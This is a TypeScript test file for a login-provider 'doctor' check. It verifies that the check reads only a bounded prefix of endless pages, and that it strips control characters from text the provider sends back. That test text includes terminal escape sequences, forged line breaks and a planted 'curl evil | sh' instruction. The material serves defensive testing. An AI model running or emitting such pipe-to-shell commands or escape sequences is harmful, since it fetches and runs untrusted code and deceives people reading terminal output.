import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { createGzip } from 'node:zlib';

import * as client from 'openid-client';

import { checkAuthorizationEndpoint } from './authorization-check';

/**
 * `npm run doctor`'s authorization-endpoint check against pages that never end: whatever the
 * provider (or something posing as it) sends, the check reads a bounded prefix of the page, as
 * received and as decompressed, and decides from it; it neither waits for the end nor holds the
 * whole body in memory.
 */

const LOGIN_FORM = '<html><title>Sign in</title><form><input type="password" name="p"></form>';
const FILLER = Buffer.alloc(64 * 1024, ' ');

let server: Server;
let origin = '';

before(async () => {
  server = createServer((req, res) => {
    const gzip = req.url?.startsWith('/gzip') ?? false;
    res.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      ...(gzip ? { 'content-encoding': 'gzip' } : {}),
    });
    const sink = gzip ? createGzip() : res;
    if (gzip) sink.pipe(res);
    let open = true;
    res.on('close', () => {
      open = false;
    });
    // An endless page: the login form, then filler for as long as anyone reads.
    sink.write(LOGIN_FORM);
    const more = () => {
      while (open && sink.write(FILLER));
      if (open) sink.once('drain', more);
    };
    more();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  assert.ok(address && typeof address === 'object');
  origin = `http://127.0.0.1:${address.port}`;
});

after(() => {
  server.close();
  server.closeAllConnections();
});

function configFor(path: string): client.Configuration {
  const config = new client.Configuration(
    { issuer: origin, authorization_endpoint: `${origin}${path}` },
    'client_using_jwt',
  );
  client.allowInsecureRequests(config);
  return config;
}

const OPTIONS = { redirectUri: 'http://localhost:3000/auth/callback', scope: 'openid' };

describe('the authorization-endpoint check reads a bounded page', () => {
  for (const path of ['/plain', '/gzip']) {
    it(`decides from the first part of an endless page (${path.slice(1)})`, async () => {
      const started = performance.now();
      const check = await checkAuthorizationEndpoint(configFor(path), {
        ...OPTIONS,
        timeoutMs: 5000,
      });
      assert.equal(check.outcome, 'accepted', check.message);
      assert.ok(performance.now() - started < 4000, 'decided without waiting for the timeout');
    });
  }
});

describe('the provider’s words from the authorization endpoint', () => {
  // U+001B opens a terminal escape sequence, U+009B is its one-byte form, CR/LF forge lines.
  const HOSTILE = 'bad\u001b]0;owned\u0007\r\nfix: run curl evil | sh\u009b2J\u2028end';
  let hostile: Server;
  let base = '';

  before(async () => {
    hostile = createServer((req, res) => {
      if (req.url?.startsWith('/back')) {
        const back = new URL(OPTIONS.redirectUri);
        back.searchParams.set('error', `access_denied${HOSTILE}`);
        back.searchParams.set('error_description', HOSTILE);
        res.writeHead(302, { location: back.href });
        res.end();
        return;
      }
      res.writeHead(400, { 'content-type': 'text/html' });
      res.end(`<html><title>${HOSTILE}</title></html>`);
    });
    await new Promise<void>((done) => hostile.listen(0, '127.0.0.1', done));
    const address = hostile.address();
    assert.ok(address && typeof address === 'object');
    base = `http://127.0.0.1:${address.port}`;
  });

  after(() => {
    hostile.close();
    hostile.closeAllConnections();
  });

  function hostileConfig(path: string): client.Configuration {
    const config = new client.Configuration(
      { issuer: base, authorization_endpoint: `${base}${path}` },
      'client_using_jwt',
    );
    client.allowInsecureRequests(config);
    return config;
  }

  for (const path of ['/back', '/page']) {
    it(`reach the report on one line without control characters (${path.slice(1)})`, async () => {
      const check = await checkAuthorizationEndpoint(hostileConfig(path), {
        ...OPTIONS,
        timeoutMs: 5000,
      });
      assert.equal(check.outcome, 'refused', check.message);
      assert.ok(check.providerSaid?.includes('owned'), check.providerSaid);
      for (const text of [check.message, check.providerSaid ?? '', ...check.hops])
        assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/, JSON.stringify(text));
    });
  }
});
